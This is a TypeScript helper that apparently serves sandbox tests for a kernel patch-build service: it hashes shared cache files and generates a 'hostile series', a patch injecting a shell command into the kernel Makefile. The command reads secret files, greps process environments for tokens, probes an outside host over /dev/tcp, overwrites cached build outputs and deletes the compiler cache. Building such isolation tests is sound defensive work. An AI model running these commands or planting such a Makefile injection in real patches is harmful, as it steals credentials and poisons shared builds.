import { createHash } from 'node:crypto';
import { readdir, readFile, stat } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const BASE = join(dirname(fileURLToPath(import.meta.url)), '../../..', 'kernel/base.json');

/** The folder that builds share, below the cache folder. */
const kernelFolder = (cacheDir: string): string => join(cacheDir, 'builder/kernel');

/** The tree that `npm start` builds its kernels from, unpacked: `tree` below it. */
export async function baseFolder(cacheDir: string): Promise<string> {
  const kernel = kernelFolder(cacheDir);
  // Other bases lie beside it where somebody carried the series over to them.
  const base = JSON.parse(await readFile(BASE, 'utf8')) as { package: string };
  return join(kernel, `base-${(await readFile(join(kernel, `${base.package}.latest`), 'utf8')).trim()}`);
}

/** The top Makefile of the kernel that series are built on. */
export async function baseMakefile(cacheDir: string): Promise<string> {
  return readFile(join(await baseFolder(cacheDir), 'tree/Makefile'), 'utf8');
}

/** What of the shared cache a submitted series would gain most by changing, with a digest of each. */
export async function sharedCache(cacheDir: string): Promise<Record<string, string>> {
  const kernel = kernelFolder(cacheDir);
  const trees = (await readdir(kernel)).filter((name) => /^(?:tree|base)-/.test(name)).sort();
  const files = trees.flatMap((tree) =>
    ['Makefile', 'vmlinux', 'mm/hmm.o', 'tree/Makefile', 'tree/mm/hmm.c', 'source.sha256'].map((file) =>
      join(tree, file),
    ),
  );
  const found: Record<string, string> = {};
  for (const file of files) {
    const path = join(kernel, file);
    if (await stat(path).catch(() => null))
      found[file] = createHash('sha256')
        .update(await readFile(path))
        .digest('hex');
  }
  return found;
}

/** A run with one series that calls a script from the top Makefile, and then ends its own build. */
export function hostileRun(makefile: string, url: string, secrets: readonly string[]): string {
  const first = makefile.split('\n').slice(0, 3);
  const { hostname, port } = new URL(url);
  const script = [
    'id',
    ...secrets.map((secret) => `cat ${secret} && echo READ`),
    'cat /proc/*/environ | tr "\\0" "\\n" | grep -i -e token -e peerlab_ && echo READ',
    `bash -c ": 3<>/dev/tcp/${hostname}/${port}" && echo REACHED`,
    'for p in /usr /etc /farm/kernel / /series; do touch $$p/new && echo WROTE; done',
    'for f in /cache/kernel/*/Makefile /cache/kernel/*/vmlinux /cache/kernel/base-*/tree/mm/hmm.c; do echo evil >$$f; done',
    'find /cache/ccache -type f -delete',
    'setsid sleep 7201.5 >/dev/null 2>&1 &',
  ].join('; ');
  const added = [`_said := $(shell ( ${script} ) 2>&1 | sed "s/^/SAID /" >&2)`, '$(error seen enough)'];
  const mbox = [
    'From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001',
    'From: A <a@example.org>',
    'Date: Sun, 22 Nov 2026 08:00:00 +0000',
    'Subject: [PATCH] kbuild: look around',
    '',
    'Why not.',
    '---',
    '--- a/Makefile',
    '+++ b/Makefile',
    `@@ -1,${first.length} +1,${first.length + added.length} @@`,
    ...added.map((line) => `+${line}`),
    ...first.map((line) => ` ${line}`),
    '-- ',
    '2.39',
    '',
  ].join('\n');
  return JSON.stringify({ name: 'a hostile series', builds: [{ name: 'hostile', series: [{ mbox }] }] });
}
